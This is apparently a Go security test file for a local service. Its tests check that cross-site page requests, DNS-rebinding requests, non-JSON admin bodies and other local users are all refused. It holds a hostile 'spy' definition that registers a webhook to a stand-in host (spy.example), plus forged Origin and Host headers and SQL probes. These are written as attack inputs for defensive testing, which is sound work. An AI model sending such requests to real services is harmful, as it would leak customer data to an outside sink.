package attacks_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// basic is how a write key is sent: as the name, without a password.
func basic(key string) string {
	return "Basic " + base64.StdEncoding.EncodeToString([]byte(key+":"))
}

const spy = `{"files":[{"name":"spy.yaml","text":"apiVersion: nudge/v1\nkind: Channel\nmetadata: {name: spy}\n` +
	`spec: {type: webhook, url: \"https://spy.example/hook\"}\n"}]}`

// page is what a browser sends for a script of a foreign page that wants no preflight.
func page(more map[string]string) map[string]string {
	h := map[string]string{
		"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors",
		"Content-Type": "text/plain;charset=UTF-8",
	}
	for name, value := range more {
		h[name] = value
	}
	return h
}

// A page that somebody has open sends requests to the loopback listeners: definitions,
// clock, erasure and SQL are not its to give, whatever it knows.
func TestPageCannotDriveTheServer(t *testing.T) {
	attack(t)
	s := begin(t, "")
	s.track("victim", "Seen", `{}`)
	admin := map[string]string{"Authorization": "Bearer " + s.keys.Admin}
	sql := map[string]string{"X-ClickHouse-User": "reader", "X-ClickHouse-Key": s.keys.Reader}
	for _, known := range []struct {
		what   string
		header map[string]string
		sql    map[string]string
	}{{"without keys", nil, nil}, {"with stolen keys", admin, sql}} {
		for _, c := range []struct{ method, path, body string }{
			{http.MethodPost, "/v1/definitions", spy},
			{http.MethodPost, "/v1/clock/accept", ""},
			{http.MethodPost, "/v1/rollback", `{"kind":"Channel","name":"spy"}`},
			{http.MethodDelete, "/v1/customers/victim", ""},
			{http.MethodGet, "/v1/customers/victim", ""},
			{http.MethodGet, "/v1/definitions", ""},
			{http.MethodGet, "/metrics", ""},
		} {
			name := fmt.Sprintf("page %s: %s %s", known.what, c.method, c.path)
			refused(t, name, s.ask(c.method, s.admin, c.path, page(known.header), c.body), "victim", "nudge_")
			rebound := map[string]string{"Host": "evil.example", "Content-Type": "application/json"}
			for k, v := range known.header {
				rebound[k] = v
			}
			refused(t, "rebound "+name, s.ask(c.method, s.admin, c.path, rebound, c.body), "victim", "nudge_")
		}
		for _, query := range []string{"SELECT customer FROM nudge.events", "SELECT 1", "SELECT version()"} {
			name := "page " + known.what + ": " + query
			refused(t, name, s.ask(http.MethodPost, s.clickhouse, "/", page(known.sql), query), "victim")
			rebound := map[string]string{"Host": "evil.example:8123"}
			for k, v := range known.sql {
				rebound[k] = v
			}
			refused(t, "rebound "+name, s.ask(http.MethodPost, s.clickhouse, "/", rebound, query), "victim")
		}
	}
	if a := s.manage(http.MethodGet, "/v1/definitions", ""); strings.Contains(a.text, "spy") || a.status != http.StatusOK {
		t.Errorf("definitions after the attack: %d %s", a.status, a.text)
	}
}

// A body of a type that pages may send without asking is refused even with the key, and so
// is a form.
func TestAdminTakesJSONOnly(t *testing.T) {
	attack(t)
	s := begin(t, "")
	for _, kind := range []string{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""} {
		a := s.ask(http.MethodPost, s.admin, "/v1/definitions", map[string]string{
			"Authorization": "Bearer " + s.keys.Admin, "Content-Type": kind,
		}, spy)
		refused(t, "definitions as "+kind, a)
	}
	if a := s.manage(http.MethodPost, "/v1/definitions", spy); a.status != http.StatusOK {
		t.Errorf("definitions as JSON: %d %s", a.status, a.text)
	}
}

// Another user of the machine has no key and gets nothing from any listener, and cannot
// read the directory in which the keys are.
func TestAnotherUserGetsNothing(t *testing.T) {
	attack(t)
	s := begin(t, "")
	s.track("victim", "Seen", `{}`)
	for _, c := range []struct{ method, address, path, body string }{
		{http.MethodGet, s.admin, "/v1/customers/victim", ""},
		{http.MethodGet, s.admin, "/v1/definitions", ""},
		{http.MethodPost, s.admin, "/v1/definitions", spy},
		{http.MethodGet, s.admin, "/v1/log", ""},
		{http.MethodGet, s.admin, "/v1/experiments", ""},
		{http.MethodGet, s.admin, "/metrics", ""},
		{http.MethodGet, s.admin, "/debug/pprof/goroutine?debug=2", ""},
		{http.MethodGet, s.admin, "/debug/pprof/heap", ""},
		{http.MethodGet, s.http, "/metrics", ""},
		{http.MethodGet, s.http, "/v1/customers/victim", ""},
		{http.MethodPost, s.http, "/v1/track", `{"userId":"x","event":"E"}`},
		{http.MethodPost, s.clickhouse, "/", "SELECT customer FROM nudge.events"},
		{http.MethodGet, s.clickhouse, "/?query=SELECT+version()", ""},
		{http.MethodGet, s.clickhouse, "/?user=default&query=SELECT+version()", ""},
		{http.MethodGet, s.clickhouse, "/?user=writer&query=SELECT+version()", ""},
		{http.MethodGet, s.clickhouse, "/?user=reader&query=SELECT+version()", ""},
		{http.MethodGet, s.clickhouse, "/?user=reader&password=&query=SELECT+version()", ""},
	} {
		header := map[string]string{"Content-Type": "application/json"}
		refused(t, c.method+" "+c.path, s.ask(c.method, c.address, c.path, header, c.body), "victim", "nudge_", "goroutine")
	}
	err := filepath.WalkDir(s.data, func(path string, d os.DirEntry, err error) error {
		if err != nil || path != s.data {
			return err
		}
		info, err := d.Info()
		if err == nil && info.Mode().Perm() != 0o700 {
			t.Errorf("%s is open to others: %v", path, info.Mode())
		}
		return err
	})
	if err != nil {
		t.Error(err)
	}
}
